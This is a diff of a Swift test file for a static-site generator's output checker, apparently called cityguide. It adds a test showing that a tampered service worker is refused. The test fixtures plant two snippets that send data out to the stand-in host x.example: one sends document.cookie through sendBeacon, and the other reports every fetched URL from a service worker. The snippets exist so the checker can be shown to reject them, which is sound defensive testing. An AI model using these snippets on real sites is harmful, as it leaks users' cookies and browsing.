@@ -103,7 +103,7 @@ final class CLITests: XCTestCase {
                 "  fix: if you edited the templates, close every element they open and escape & and < in text",
                 "Output/sitemap.xml:2: not well-formed XML: EntityRef: expecting ';'",
                 "  fix: if you edited the templates, close every element they open and escape & and < in text",
-                "Checked 8 pages (35 files) in Output: 8 problems.",
+                "Checked 8 pages (41 files) in Output: 8 problems.",
             ])
     }
 
@@ -141,7 +141,7 @@ final class CLITests: XCTestCase {
             "the HTML and SVG code, the remote script and code beside a src, the remote script's load and the "
                 + "SVG script element; the site's own saved.js is fine")
         XCTAssertFalse(run.stderr.contains("#content"), "an id the other page has is fine")
-        XCTAssertEqual(lines.last, "Checked 8 pages (35 files) in Output: 10 problems.", run.stderr)
+        XCTAssertEqual(lines.last, "Checked 8 pages (41 files) in Output: 10 problems.", run.stderr)
     }
 
     /// The scripts a page may load are exactly the site's own (saved places, open now, near me), as cityguide wrote
@@ -161,7 +161,15 @@ final class CLITests: XCTestCase {
             contentsOf: site.dir.appendingPathComponent("Output/san-francisco/coffee/index.html"), encoding: .utf8)
         XCTAssertTrue(page.contains("assets/near."), "a list loads near me")
 
+        let worker = try String(contentsOf: site.dir.appendingPathComponent("Output/sw.js"), encoding: .utf8)
+        XCTAssertTrue(
+            worker.hasPrefix("\"use strict\";\nvar VERSION = \""), "the site's service worker, under its version")
+
         try site.write("Output/assets/track.js", "navigator.sendBeacon('https://x.example/', document.cookie)")
+        // A worker answers for every page: one that also reports them elsewhere is refused.
+        try site.write(
+            "Output/sw.js", worker + "self.addEventListener('fetch', e => fetch('https://x.example/' + e.request.url));"
+        )
         try site.write(
             "Output/assets/saved.js",
             try String(contentsOf: site.dir.appendingPathComponent("Output/assets/saved.js"), encoding: .utf8) + "x()")
@@ -173,13 +181,14 @@ final class CLITests: XCTestCase {
         for expected in [
             "Output/assets/saved.js: this is not cityguide's own saved.js (its bytes differ)",
             "Output/assets/track.js: a script that is not one of cityguide's own",
+            "Output/sw.js: this is not cityguide's own service worker (its bytes differ from what a build writes)",
             "the script assets/track.js is not one of cityguide's own",
             "  fix: remove it from the template; the only scripts a page may load are assets/find.js, assets/hours.js, "
-                + "assets/list.js, assets/near.js, assets/saved.js",
+                + "assets/list.js, assets/near.js, assets/offline.js, assets/saved.js",
         ] {
             XCTAssertTrue(run.stderr.contains(expected), "missing: \(expected)\n\(run.stderr)")
         }
-        XCTAssertTrue(run.stderr.hasSuffix("3 problems.\n"), run.stderr)
+        XCTAssertTrue(run.stderr.hasSuffix("4 problems.\n"), run.stderr)
     }
 
     func testHelp() throws {
